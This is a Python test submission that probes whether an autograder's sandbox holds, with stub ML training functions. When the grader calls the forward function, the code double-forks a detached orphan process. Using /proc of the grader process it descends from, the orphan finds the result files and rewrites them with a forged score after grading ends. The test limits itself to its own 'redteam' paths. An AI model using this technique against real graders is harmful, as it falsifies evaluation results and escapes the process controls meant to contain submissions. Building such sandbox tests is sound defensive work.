"""Attack: a double-forked, setsid'd orphan (named rtmark-orphan) that outlives grading and
keeps trying for 90 s to rewrite result files found through the command lines and working
directories of the processes it descends from (the grader's, unless a pid namespace hides it)
-- after grading has finished.  Without the sandbox it survives the grader (the test then
kills it by pid).  Polite: only touches paths containing "redteam" (the test's own directories).
Expected: the orphan dies with the sandbox; result files untouched; score <= zeros baseline."""
import json
import os
import select
import sys

import numpy as np

ORPHAN = r'''
import ctypes, glob, json, os, sys, time
ctypes.CDLL(None).prctl(15, b"rtmark-orphan", 0, 0, 0)  # PR_SET_NAME: the test looks for strays by this name
os.write(1, b"REDTEAM-INFO: orphan alive\n")
os.write(int(sys.argv[2]), b"!")  # ready: the submission may go on
os.close(int(sys.argv[2]))
null = os.open("/dev/null", os.O_RDWR)
for fd in (0, 1, 2):  # a daemon lets go of its parent's pipes
    os.dup2(null, fd)
TAG = "REDTEAM-TAMPERED by orphan_rewrites_results"
end = time.time() + 90
places = json.loads(sys.argv[1])  # found by the child before it let go of its parents
while time.time() < end:
    for place in places:
        for pattern in ("*/results.json", "*/feedback.txt", "*/result.json", "*.csv"):
            for path in glob.glob(os.path.join(place, pattern)):
                if "redteam" not in os.path.realpath(path):
                    continue
                forged = json.dumps({"score": 29, "tests": [], "output": TAG}) if path.endswith(".json") else TAG
                try:
                    with open(path, "w") as f:
                        f.write(forged)
                except OSError:
                    pass
    time.sleep(1)
'''


def _ancestors():
    """This process and its ancestors up to pid 1: without a pid namespace, the grader is one."""
    chain, pid = [], os.getpid()
    while pid >= 1 and len(chain) < 40:
        chain.append(pid)
        try:
            pid = int(open(f"/proc/{pid}/stat").read().rsplit(")", 1)[1].split()[1])
        except (OSError, ValueError, IndexError):
            break
    return chain


def _places():
    """Resolved now: once the grader exits, its command line and cwd are gone."""
    places = set()
    for pid in _ancestors():
        try:
            cwd = os.readlink(f"/proc/{pid}/cwd")
            args = open(f"/proc/{pid}/cmdline", "rb").read().split(b"\0")
        except OSError:
            continue
        places.add(cwd)
        places.update(os.path.join(cwd, a.decode(errors="replace")) for a in args if a)
    return sorted(places)


_SPAWNED = []


def _spawn_orphan():
    if _SPAWNED:
        return
    _SPAWNED.append(True)
    places = _places()
    ready, ready_w = os.pipe()
    os.set_inheritable(ready_w, True)
    pid = os.fork()
    if pid == 0:
        os.setsid()
        if os.fork() == 0:
            try:
                argv = [sys.executable, "-c", ORPHAN, json.dumps(places), str(ready_w), "rtmark-orphan"]
                os.execv(sys.executable, argv)
            finally:
                os._exit(0)
        os._exit(0)
    os.close(ready_w)
    os.waitpid(pid, 0)
    select.select([ready], [], [], 5.0)  # its "alive" line must be in this submission's output
    os.close(ready)


def _forward(params, X, y):
    _spawn_orphan()
    return np.zeros((1, X.shape[1])), 0.0, dict(params)


def _backward(params, cache):
    return {k: np.zeros(np.shape(v)) for k, v in params.items()}


def sigmoid(z):
    return np.zeros(np.shape(z))


univariate_forward = multivariate_forward = two_layer_linear_forward = sigmoid_mlp_forward = _forward
univariate_backward = multivariate_backward = two_layer_linear_backward = sigmoid_mlp_backward = _backward
